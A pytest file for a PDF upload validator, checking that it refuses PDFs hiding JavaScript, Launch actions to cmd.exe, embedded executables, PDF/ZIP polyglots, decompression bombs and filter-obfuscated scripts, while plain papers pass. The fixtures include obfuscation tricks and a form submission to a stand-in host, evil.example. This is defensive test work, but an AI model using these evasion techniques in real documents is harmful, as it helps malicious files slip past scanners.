"""What a PDF brings along is found where it hides, within bounds; plain papers pass."""

import base64
import io
import zipfile
import zlib

import pytest
from pyhanko.pdf_utils import embed, generic
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter

from demo.seed.papers import demo_paper
from domain.kernel import ErrorCode
from domain.uploads.pdf_content import LARGEST_UNPACKED, MOST_PACKED
from domain.uploads.pdf_content import problem_of_pdf as refusal
from tests.support.files import PDF

SCRIPT = b"/S /JavaScript /JS (app.alert)"


def with_object(inside: bytes) -> bytes:
    return PDF.replace(b"%%EOF", b"3 0 obj<<" + inside + b">>endobj\n%%EOF")


def packed(inside: bytes, keys: bytes = b"/Filter /FlateDecode", encoded: bytes | None = None) -> bytes:
    """An object stream that holds object 1."""
    sealed = zlib.compress(inside) if encoded is None else encoded
    head = b"/Type /ObjStm /N 1 /First 4 /Length %d " % len(sealed) + keys
    return b"<<" + head + b">>stream\n" + sealed + b"\nendstream"


def with_packed(inside: bytes, keys: bytes = b"/Filter /FlateDecode", encoded: bytes | None = None) -> bytes:
    return PDF.replace(b"%%EOF", b"3 0 obj" + packed(inside, keys, encoded) + b"endobj\n%%EOF")


def with_many_packed(inside: bytes, times: int) -> bytes:
    one = packed(inside)
    return PDF.replace(b"%%EOF", b"".join(b"%d 0 obj%s endobj\n" % (3 + at, one) for at in range(times)) + b"%%EOF")


def differences(inside: bytes) -> bytes:
    """Each byte as a row of a PNG's filter "Up": its difference from the one before."""
    return b"".join(bytes((2, (one - before) % 256)) for before, one in zip(b"\x00" + inside, inside, strict=False))


def archive() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as packed:
        packed.writestr("setup.exe", b"MZ" * 2_000)
        packed.comment = b"%%EOF"
    return made.getvalue()


def made_by_a_library() -> PdfFileWriter:
    writer = PdfFileWriter(stream_xrefs=True)
    box = generic.ArrayObject(map(generic.NumberObject, (0, 0, 100, 100)))
    writer.insert_page(PageObject(contents=writer.add_object(generic.StreamObject(stream_data=b"")), media_box=box))
    return writer


def written(writer: PdfFileWriter) -> bytes:
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        PDF,
        demo_paper("a paper"),
        with_packed(b"1 0 <</Type /Page>>"),
        with_packed(b"1 0 <</Type /Page>>", b"", b"1 0 <</Type /Page>>"),
        with_object(b"/Title (JavaScript, Launch and Encrypt are words) /LaunchPad 1 /JavaScripts 2"),
        PDF + b"PK\x05\x06 is no archive \n%%EOF",
    ],
    ids=["small", "the demo's", "packed objects", "unpacked ones", "words", "letters of an archive"],
)
def test_plain_papers_pass(content: bytes) -> None:
    assert refusal(content) is None


def test_a_paper_that_a_library_wrote_passes_and_a_locked_one_does_not() -> None:
    plain, locked = made_by_a_library(), made_by_a_library()
    assert refusal(written(plain)) is None
    locked.encrypt("owner", "user")
    assert refusal(written(locked)) is ErrorCode.FILE_LOCKED


def test_a_file_within_the_file_is_found() -> None:
    writer = made_by_a_library()
    program = embed.EmbeddedFileObject.from_file_data(writer, data=b"MZ" * 100, mime_type="application/x-msdownload")
    embed.embed_file(writer, embed.FileSpec(file_spec_string="a.exe", file_name="a.exe", embedded_data=program))
    assert refusal(written(writer)) is ErrorCode.FILE_NOT_PLAIN


@pytest.mark.parametrize(
    "content",
    [
        with_object(SCRIPT),
        with_object(b"/S/J#61v#61Script/JS(x)"),
        with_object(b"/S /Launch /F (cmd.exe)"),
        with_packed(b"1 0 <<" + SCRIPT + b">>"),
        with_packed(b"1 0 <<" + SCRIPT + b">>").replace(b"/ObjStm", b"/Obj#53tm"),
    ],
    ids=["plain", "escaped", "launch", "packed", "packed and escaped"],
)
def test_a_program_is_found_where_it_hides(content: bytes) -> None:
    assert refusal(content) is ErrorCode.FILE_NOT_PLAIN


def test_an_archive_that_is_a_paper_too_is_disguised() -> None:
    content = PDF + archive()
    assert zipfile.ZipFile(io.BytesIO(content)).namelist() == ["setup.exe"]
    assert refusal(content) is ErrorCode.FILE_DISGUISED


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF",
        with_packed(b"1 0 <<>>" + b" " * LARGEST_UNPACKED),
        with_many_packed(b"1 0 <<>>" + b" " * (LARGEST_UNPACKED // 4), times=5),
        with_many_packed(b"1 0 <<>>", times=MOST_PACKED + 1),
        with_packed(b"1 0 <<" + SCRIPT + b">>")[:-40] + b"\n%%EOF",
        with_object(b"/S /GoTo /S /Named"),
        with_object(b"/Kids " + b"[" * 5_000),
        b"%PDF-1.7\n" + b"1 " * 500_000 + b"%%EOF",
    ],
    ids=["a page of the web", "a bomb", "several", "many", "cut off", "a key twice", "deep", "no object among digits"],
)
def test_what_is_no_paper_or_unpacks_beyond_its_bounds_is_damaged(content: bytes) -> None:
    assert refusal(content) is ErrorCode.FILE_DAMAGED


@pytest.mark.parametrize(
    "content",
    [
        with_packed(b"", b"/Filter /ASCIIHexDecode", (b"1 0 <<" + SCRIPT + b">>").hex().encode() + b">"),
        with_packed(
            b"",
            b"/Filter [/ASCII85Decode /FlateDecode]",
            base64.a85encode(zlib.compress(b"1 0 <<" + SCRIPT + b">>")) + b"~>",
        ),
        with_packed(
            b"",
            b"/Filter /FlateDecode /DecodeParms <</Predictor 12 /Columns 1>>",
            zlib.compress(differences(b"1 0 <<" + SCRIPT + b">>")),
        ),
        with_packed(b"1 0 <<" + SCRIPT + b">>", b"/Filter /FlateDecode /Title (stream\n)"),
        with_object(b"/Type /Catalog /AcroForm <</XFA [(template) 4 0 R]>>"),
        with_object(b"/Type /Catalog /OpenAction <</S /GoToR /F (\\\\\\\\somewhere\\\\share) /D [0 /Fit]>>"),
        with_object(b"/Type /Catalog /OpenAction <</S /SubmitForm /F (http://evil.example/)>>"),
    ],
    ids=["hexadecimal", "ASCII85", "predictor", "decoy", "XFA", "an UNC path", "a form sent away"],
)
def test_the_seven_ways_round_a_filter_are_refused(content: bytes) -> None:
    assert refusal(content) is ErrorCode.FILE_NOT_PLAIN


@pytest.mark.parametrize(
    "inside",
    [
        b"/Type /Page /AA <</O 9 0 R>>",
        b"/A <</S /Sound>>",
        b"/A 4 0 R>>endobj\n4 0 obj<</S /Movie",
        b"/A <</S 4 0 R>>>>endobj\n4 0 obj /Hide endobj\n5 0 obj<<",
        b"/A <</S /URI /URI (https://example.org) /Next [<</S /GoTo>> <</S /ResetForm>>]>>",
        b"/A <</S <</S /GoTo>>>>",
        b"/Type /Catalog /OpenAction 4 0 R>>endobj\n4 0 obj<</S /Unheard",
        b"/Type /Filespec /EF <</F 9 0 R>>",
        b">>endobj\n4%(hidden)\n0 obj<</S /Launch",
    ],
    ids=[
        "additional",
        "sound",
        "referred to",
        "its kind referred to",
        "followed",
        "no name",
        "unknown",
        "a file",
        "a comment",
    ],
)
def test_an_action_that_is_not_allowed_is_refused(inside: bytes) -> None:
    assert refusal(with_object(inside)) is ErrorCode.FILE_NOT_PLAIN


@pytest.mark.parametrize(
    "inside",
    [
        b"/Type /Catalog /OpenAction [2 0 R /XYZ null null 0]",
        b"/Type /Catalog /OpenAction <</S /GoTo /D [2 0 R /Fit]>>",
        b"/Subtype /Link /A <</S /URI /URI (https://uk.gov.in)>>",
        b"/Type /StructElem /S /P /A <</O /Layout>>",
        b"/Type /Page /Group <</S /Transparency>> /Trans <</S /Fade>>",
    ],
    ids=["a destination", "a page", "an address", "a paragraph", "a transition"],
)
def test_what_goes_to_a_page_or_an_address_passes(inside: bytes) -> None:
    assert refusal(with_object(inside)) is None
